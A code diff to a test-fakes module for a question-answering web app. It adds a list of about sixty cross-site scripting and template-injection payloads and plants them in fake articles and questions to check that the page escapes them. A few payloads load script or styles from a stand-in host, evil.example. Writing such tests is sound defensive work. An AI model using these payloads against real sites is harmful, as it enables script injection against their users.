@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import sys
 import time
 from dataclasses import dataclass, field
@@ -9,7 +10,7 @@ from datetime import date
 from pathlib import Path
 
 from qa import CitespanError
-from qa.types import Alternative, Answer, Article, Chunk, Citation, Hit, Span, Timings
+from qa.types import Alternative, Answer, Article, Chunk, Citation, Hit, Reply, Span, Timings
 
 CUT = (
     "The United States cut diplomatic ties with Venezuela after Maduro, a longtime Putin ally, "
@@ -69,6 +70,85 @@ NASTY = Article(
     outlet="Ünï <u>Post</u> ${1+1}",
 )
 SAMPLES = (TRIP, BALLOT, NASTY)
+# Sixty ways to get a script run: by tags, attributes, addresses, templates, breaking out of quotes.
+HOSTILE_TEXTS = (
+    *(
+        f"<{tag} {event}=alert(1)>"
+        for tag, event in (
+            ("img src=x", "onerror"),
+            ("svg", "onload"),
+            ("body", "onpageshow"),
+            ("video src=x", "onerror"),
+            ("audio src=x", "onerror"),
+            ("input autofocus", "onfocus"),
+            ("select autofocus", "onfocus"),
+            ("textarea autofocus", "onfocus"),
+            ("details open", "ontoggle"),
+            ("marquee", "onstart"),
+            ("object data=x", "onerror"),
+            ("style", "onload"),
+            ("a href=x autofocus tabindex=1", "onfocus"),
+            ("div style=animation:x", "onanimationstart"),
+            ("p contenteditable autofocus", "onfocus"),
+        )
+    ),
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>/*</script><script>*/alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "<!--<script>alert(1)//-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button autofocus>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<a href='java\tscript:alert(1)'>click</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>click</a>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//evil.example/>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)//https://",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    "' onmouseover=alert(1) x='",
+    '" onmouseover=alert(1) x="',
+    '"><img src=x onerror=alert(1)>',
+    "'-alert(1)-'",
+    '";alert(1);//',
+    "`;alert(1);//",
+    "${alert(1)}",
+    "`${alert(1)}`",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{#with alert}}{{this 1}}{{/with}}",
+    "{{{alert(1)}}}",
+    "<%= alert(1) %>",
+    "#{alert(1)}",
+    "[[${alert(1)}]]",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+)
+HOSTILE = tuple(
+    Article(
+        id=f"hostile{at}",
+        title=f"{hostile} in a title",
+        text=f"It begins. They wrote {hostile} there. It ends.",
+        source=f"https://news.example/{hostile}" if at % 2 else f"/articles/{hostile}.txt",
+        author=f"{hostile} the author",
+        outlet=f"{hostile} Post",
+    )
+    for at, hostile in enumerate(HOSTILE_TEXTS)
+)
 
 
 def span_of(article: Article, quote: str) -> Span:
@@ -105,6 +185,17 @@ CUP = "Who won the 2018 Ostrell World Cup?"
 BROKEN = "What is broken?"
 BUG = "Where is the bug?"
 SLOW = "What takes a while?"
+
+
+HELLO = "hello"
+BOTH = "When was Maduro reelected? And who was recognised instead?"
+SMALL_TALK = {
+    HELLO: Reply("greeting", "Hello. Ask who, what, when, where, why or how many."),
+}
+
+
+def hostile_question(first: int) -> str:
+    return f"Who wrote {HOSTILE_TEXTS[first]}? " + " ".join(HOSTILE_TEXTS[first + 1 : first + 6])
 
 
 def nasty_question(at: int) -> str:
@@ -171,7 +262,28 @@ def scripted() -> dict[str, Answer]:
                 hits=(hit(NASTY, quote, 1),),
             )
         )
-    return {one.question: one for one in answers}
+    found = {one.question: one for one in answers}
+    for first in range(0, len(HOSTILE), 20):
+        asked = hostile_question(first)
+        SMALL_TALK[asked] = Reply("several", asked, tuple(map(_quoted, range(first, first + 20))))
+    SMALL_TALK[BOTH] = Reply("several", "Your 2 questions, one by one:", (found[WHEN], found[WHO]))
+    return found
+
+
+def _quoted(at: int) -> Answer:
+    """Answer with one of the hostile texts, from an article that is full of it."""
+    hostile, asked = HOSTILE_TEXTS[at], f"What is number {at}, {HOSTILE_TEXTS[at]}?"
+    sentence = f"They wrote {hostile} there."
+    return Answer(
+        asked,
+        f"{asked} (as it was understood)",
+        hostile,
+        0.9,
+        calibrated=True,
+        citations=(cite(HOSTILE[at], hostile, sentence),),
+        hits=(hit(HOSTILE[at], sentence, 1),),
+        unknown_terms=(hostile,),
+    )
 
 
 @dataclass(frozen=True)
@@ -184,18 +296,36 @@ class Report:
 
 
 class FakeLibrary:
-    def __init__(self, path: Path, label: str, articles: tuple[Article, ...] = ()) -> None:
+    def __init__(
+        self,
+        path: Path,
+        label: str,
+        articles: tuple[Article, ...] = (),
+        uncounted: tuple[Article, ...] = (),
+    ) -> None:
         self.path = path
         self.label = label
         self.articles = {one.id: one for one in articles}
+        self._uncounted = {one.id: one for one in uncounted}
 
     def __len__(self) -> int:
         return len(self.articles)
 
+    def outlets(self) -> dict[str, int]:
+        named = sorted({one.outlet for one in self.articles.values() if one.outlet})
+        return {
+            outlet: sum(one.outlet == outlet for one in self.articles.values()) for outlet in named
+        }
+
+    def days(self) -> tuple[date, date] | None:
+        days = sorted(one.published for one in self.articles.values() if one.published)
+        return (days[0], days[-1]) if days else None
+
     def article(self, article_id: str) -> Article:
-        if article_id not in self.articles:
+        found = self.articles.get(article_id) or self._uncounted.get(article_id)
+        if found is None:
             raise CitespanError(f"no article has the id {article_id}")
-        return self.articles[article_id]
+        return found
 
     def add(self, sources: list[Path]) -> Report:
         report = Report()
@@ -217,13 +347,14 @@ class FakeAssistant:
     """Answers what is scripted, declines the rest, and finds words of the user's own articles.
 
     It lives in the server's process; a folder is what the tests steer it by and read from:
-    ``library`` names the library's folder (a new name begins anew), ``held`` exists while slow
-    questions wait, ``asked`` lists the questions.
+    ``library`` names the library's folder (a new name begins anew), ``closed`` exists while it
+    cannot be opened yet, ``held`` while slow questions wait, ``asked`` lists the questions and
+    ``filters`` what they were asked with.
     """
 
     def __init__(self, folder: Path) -> None:
         self.folder = folder
-        self.samples = FakeLibrary(folder / "samples", "sample articles", SAMPLES)
+        self.samples = FakeLibrary(folder / "samples", "sample articles", SAMPLES, HOSTILE)
         self.answers = scripted()
         self._own = FakeLibrary(folder, "none yet")
 
@@ -246,9 +377,40 @@ class FakeAssistant:
     def warm(self) -> None:
         raise CitespanError("there is nothing to warm")
 
-    def ask(self, question, history=(), *, on_stage=None, **_filters) -> Answer:
+    @property
+    def threshold(self) -> float:
+        return 0.24
+
+    def article(self, article_id: str) -> Article:
+        try:
+            return self.library.article(article_id)
+        except CitespanError:
+            return self.samples.article(article_id)
+
+    def reply(
+        self,
+        message,
+        history=(),
+        source=None,
+        since=None,
+        until=None,
+        confidence=None,
+        *,
+        on_stage=None,
+    ) -> Reply:
+        if message in SMALL_TALK:
+            return SMALL_TALK[message]
+        asked = {"source": source, "since": since, "until": until, "confidence": confidence}
+        answer = self.ask(message, history, on_stage=on_stage, **asked)
+        return Reply("question", "", (answer,))
+
+    def ask(self, question, history=(), *, on_stage=None, **filters) -> Answer:
+        if len(question) > 2_000:
+            raise CitespanError(f"the question has {len(question):,} characters, at most 2,000")
         with (self.folder / "asked").open("a", encoding="utf-8") as asked:
             asked.write(question + "\n")
+        with (self.folder / "filters").open("a", encoding="utf-8") as file:
+            file.write(json.dumps(filters, default=str) + "\n")
         for stage in ("searching", "reading", "deciding"):
             if on_stage is not None:
                 on_stage(stage)
@@ -277,7 +439,14 @@ def main() -> None:
     """Serve the page: ``python web_fakes.py FOLDER PORT``; the address is in its output."""
     from qa.web import serve
 
-    serve(FakeAssistant(Path(sys.argv[1])), "127.0.0.1", int(sys.argv[2]))
+    folder = Path(sys.argv[1])
+
+    def open_assistant() -> FakeAssistant:
+        while (folder / "closed").exists():
+            time.sleep(0.02)
+        return FakeAssistant(folder)
+
+    serve(open_assistant, "127.0.0.1", int(sys.argv[2]))
 
 
 if __name__ == "__main__":
